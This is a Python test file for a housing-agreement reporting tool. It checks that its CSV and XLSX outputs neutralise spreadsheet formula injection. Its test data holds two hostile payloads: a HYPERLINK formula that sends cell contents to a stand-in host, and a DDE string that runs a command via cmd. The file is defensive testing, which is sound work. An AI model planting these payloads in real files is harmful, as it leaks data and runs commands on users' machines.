"""No formula is passed on (issue #13): text that a spreadsheet would run as a formula reaches
every CSV and XLSX the tool writes as text, numbers stay as they are, and the tool reads its own
neutralised cells back as the original text.

The two payloads are the issue's; they go through every writer directly, and once through
`afspraken report` (slow) in every monitoring text column of the example data.
"""

from __future__ import annotations

import csv
import json
import math
import shutil

import matplotlib.pyplot as plt
import numpy as np
import openpyxl
import pandas as pd
import pytest
from pptx import Presentation

import afspraken_analysis as aa
from afspraken_analysis import cli, data, monitoring, spreadsheet
from afspraken_analysis.monitoring import templates
from afspraken_analysis.paths import EXAMPLE_MONITORING_DIR
from afspraken_analysis.report import plots
from afspraken_analysis.report.blocks import write_csv
from afspraken_analysis.scenarios import cli as scenario_cli

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE)
FORMULA_LIKE = ["=1+1", "+3 woningen", "-2 woningen", "@SUM(A1)", "\t=1", "\r=1", *PAYLOADS]


def _cells(path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        sample = f.readline()
        f.seek(0)
        return [c for row in csv.reader(f, delimiter=";" if ";" in sample else ",") for c in row]


def _is_number(text: str) -> bool:
    try:
        return not math.isnan(float(text))
    except ValueError:
        return False


def _formula_cells(paths) -> list[tuple[str, str]]:
    """Cells a spreadsheet would run: text starting with a formula character, not a number."""
    return [
        (p.name, c)
        for p in paths
        for c in _cells(p)
        if c.startswith(spreadsheet.FORMULA_START) and not _is_number(c)
    ]


# --- the rule ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_gets_one_apostrophe_and_comes_back(text):
    assert spreadsheet.neutralise(text) == "'" + text
    assert spreadsheet.restore("'" + text) == text


@pytest.mark.parametrize("value", [-3, -2.5, np.int64(-7), np.float64(-0.1), 0, None, pd.NA])
def test_numbers_and_missing_values_are_untouched(value):
    assert spreadsheet.neutralise(value) is value


@pytest.mark.parametrize(
    "text", ["'t Loo", "375 woningen", "−3 (a minus sign, not a hyphen)", "", "'", "a=b"]
)
def test_ordinary_text_is_untouched(text):
    assert spreadsheet.neutralise(text) == text
    assert spreadsheet.restore(text) == text


@pytest.mark.parametrize("text", ["'=1", "''+3", "'''@x"])
def test_text_already_quoted_gets_one_more_so_the_rule_reverses(text):
    assert spreadsheet.neutralise(text) == "'" + text
    assert spreadsheet.restore(spreadsheet.neutralise(text)) == text


def test_a_frame_keeps_numbers_and_dtypes_and_only_text_changes():
    frame = pd.DataFrame(
        {
            "count": [-3, 2],
            "share": [-0.25, 1.5],
            "nullable": pd.array([-4, None], dtype="Int64"),
            "note": [HYPERLINK, "gewoon"],
            "kind": pd.Categorical([DDE, "b"]),
            "label": pd.array(["+3 woningen", None], dtype="string"),
            "mixed": [-1, "-1 woning"],
        }
    )
    out = spreadsheet.neutralise_frame(frame)
    assert out["note"].tolist() == ["'" + HYPERLINK, "gewoon"]
    assert out["kind"].tolist() == ["'" + DDE, "b"]
    assert out["label"].tolist()[0] == "'+3 woningen" and out["label"].isna().tolist()[1]
    assert out["mixed"].tolist() == [-1, "'-1 woning"]
    for column in ("count", "share", "nullable"):
        assert out[column].equals(frame[column])
    assert list(map(str, out.dtypes)) == list(map(str, frame.dtypes))  # categories renamed
    assert frame["note"][0] == HYPERLINK  # the frame given is not changed
    assert spreadsheet.restore_frame(out).equals(frame)


def test_a_frame_without_formula_like_text_is_passed_on_as_is():
    frame = pd.DataFrame({"year": [2024], "value": [-5.0], "text": ["'t Loo"]})
    assert spreadsheet.neutralise_frame(frame) is frame


# --- the writers ---------------------------------------------------------------------------------


def test_report_csv_writer_quotes_text_and_leaves_negative_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "explanation": [HYPERLINK, DDE, "-"],
            "difference": [-12, -0.5, 3],
            "=col": ["a", "b", "c"],
        }
    )
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == (
        "explanation,difference,'=col\n"
        '"\'=HYPERLINK(""http://example.invalid/?""&A1,""klik"")",-12,a\n'
        "'@SUM(1+1)*cmd|' /C calc'!A0,-0.5,b\n"
        "'-,3,c\n"
    )


def test_the_csv_beside_a_figure_quotes_text(tmp_path):
    fig, ax = plt.subplots()
    ax.plot([0, 1], [-1, 1])
    frame = pd.DataFrame({"project": [HYPERLINK, DDE], "value": [-1, 1]})
    plots.save(fig, "test", frame, tmp_path)
    plt.close(fig)
    written = pd.read_csv(tmp_path / "figures" / "test.csv")
    assert written["project"].tolist() == ["'" + p for p in PAYLOADS]
    assert written["value"].tolist() == [-1, 1]


def test_data_export_quotes_text_and_says_so(tmp_path, monkeypatch):
    real_load = data.load

    def load_with_payload(name):  # curated text a colleague might have typed
        frame = real_load(name)
        if name == "agreements":
            frame = frame.copy()
            frame.loc[0, "text"], frame.loc[1, "text"] = HYPERLINK, DDE
        return frame

    monkeypatch.setattr(data, "load", load_with_payload)
    data.export(tmp_path)
    agreements = pd.read_csv(tmp_path / "agreements.csv", dtype=str)
    assert agreements["text"].tolist()[:2] == ["'" + p for p in PAYLOADS]
    package = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert spreadsheet.RULE in package["description"]
    assert all(r["textCells"] == spreadsheet.RULE for r in package["resources"])


def test_data_export_of_the_shipped_data_holds_no_formula(tmp_path):
    written = aa.export(tmp_path)
    assert _formula_cells([p for p in written if p.suffix == ".csv"]) == []


def test_scenario_run_out_quotes_text_and_keeps_numbers(tmp_path, monkeypatch):
    real = scenario_cli.project_retrofits

    def retrofits_with_payload(scenario, realisations=None):  # a hostile name, the real numbers
        frame = real(scenario, realisations=realisations).astype({"corporation": object})
        frame.loc[0, "corporation"] = HYPERLINK
        return frame

    monkeypatch.setattr(scenario_cli, "project_retrofits", retrofits_with_payload)
    out = tmp_path / "retrofits.csv"
    assert cli.main(["scenario", "run", "--table", "retrofits", "--out", str(out)]) == 0
    written = pd.read_csv(out)
    expected = real(scenario_cli.scenario(scenario_cli.DEFAULT_SCENARIO))
    assert written.loc[0, "corporation"] == "'" + HYPERLINK
    numbers = expected.select_dtypes("number").columns
    pd.testing.assert_frame_equal(written[numbers], expected[numbers], check_dtype=False)


ROWS = {
    "realisations": [
        {
            "year": 2025,
            "indicator": "social_new_builds",
            "party": "De Goede Woning",
            "project": HYPERLINK,
            "value": 5,
            "source": DDE,
            "note": "+3 woningen",
        }
    ],
    "agreement_status": [
        {
            "year": 2025,
            "agreement_id": "1.1",
            "status": "delayed",
            "explanation": HYPERLINK,
            "source": DDE,
        }
    ],
    "category_overrides": [
        {
            "year": 2025,
            "target_id": "skaeve_huse",
            "category": "limited_progress",
            "justification": DDE,
            "source": HYPERLINK,
        }
    ],
}
TEXT = {
    "realisations": ("project", "source", "note"),
    "agreement_status": ("explanation", "source"),
    "category_overrides": ("justification", "source"),
}


def _load(table: str, path) -> pd.DataFrame:
    return getattr(monitoring, f"load_{table}")(path)


@pytest.mark.parametrize("table", list(ROWS))
def test_csv_template_quotes_text_and_reads_back_as_typed(tmp_path, table):
    path = tmp_path / f"{table}.csv"
    templates._write_csv_template(path, table, ROWS[table])
    raw = path.read_text(encoding="utf-8-sig")
    assert raw.count("'=HYPERLINK") == 1 and raw.count("'@SUM") == 1
    assert _formula_cells([path]) == []
    assert monitoring.validate_paths([path]) == []
    frame = _load(table, path)
    for column in TEXT[table]:
        assert frame[column].tolist() == [ROWS[table][0][column]]


@pytest.mark.parametrize("table", list(ROWS))
def test_xlsx_template_stores_formula_like_text_as_text(tmp_path, table):
    path = tmp_path / f"{table}.xlsx"
    templates._write_xlsx_template(path, table, ROWS[table], 2025)
    sheet = openpyxl.load_workbook(path)[table]
    header = [c.value for c in sheet[1]]
    for column in TEXT[table]:
        cell = sheet.cell(2, header.index(column) + 1)
        assert cell.value == ROWS[table][0][column]
        assert cell.data_type == "s"
        if cell.value.startswith("="):
            assert cell.quotePrefix  # Excel shows it as typed text, not as a formula
    assert monitoring.validate_paths([path]) == []
    frame = _load(table, path)
    for column in TEXT[table]:
        assert frame[column].tolist() == [ROWS[table][0][column]]


def test_shipped_templates_hold_no_formula(tmp_path):
    paths = templates.write_templates(tmp_path, 2025)
    assert _formula_cells([p for p in paths if p.suffix == ".csv"]) == []
    for path in (p for p in paths if p.suffix == ".xlsx"):
        for sheet in openpyxl.load_workbook(path).worksheets:
            assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


# --- once through the report ---------------------------------------------------------------------


def _hostile_monitoring(directory):
    """The example monitoring data with the payloads in every text column, alternating."""
    shutil.copytree(EXAMPLE_MONITORING_DIR, directory)
    for table, columns in TEXT.items():
        path = directory / f"{table}.csv"
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for i, column in enumerate(c for c in columns if c != "project"):
            frame[column] = [PAYLOADS[(i + j) % 2] for j in range(len(frame))]
        frame.to_csv(path, index=False)  # the raw payloads: accepted on input


@pytest.mark.slow
def test_monitoring_text_never_reaches_a_report_output_as_a_formula(tmp_path):
    monitoring_dir = tmp_path / "monitoring"
    _hostile_monitoring(monitoring_dir)
    out = tmp_path / "out"
    args = ["report", "--year", "2025", "--monitoring", str(monitoring_dir), "--out", str(out)]
    assert cli.main(args) == 0
    written = sorted([*out.glob("tables/*.csv"), *out.glob("figures/*.csv")])
    assert _formula_cells(written) == []
    cells = {c for p in written for c in _cells(p)}
    for payload in PAYLOADS:
        assert any(payload in c for c in cells)
        assert not any(c.startswith(payload) for c in cells)
    deck = Presentation(out / "slides.pptx")
    text = "\n".join(
        s.text_frame.text for slide in deck.slides for s in slide.shapes if s.has_text_frame
    )
    assert "'" + HYPERLINK not in text and "'" + DDE not in text
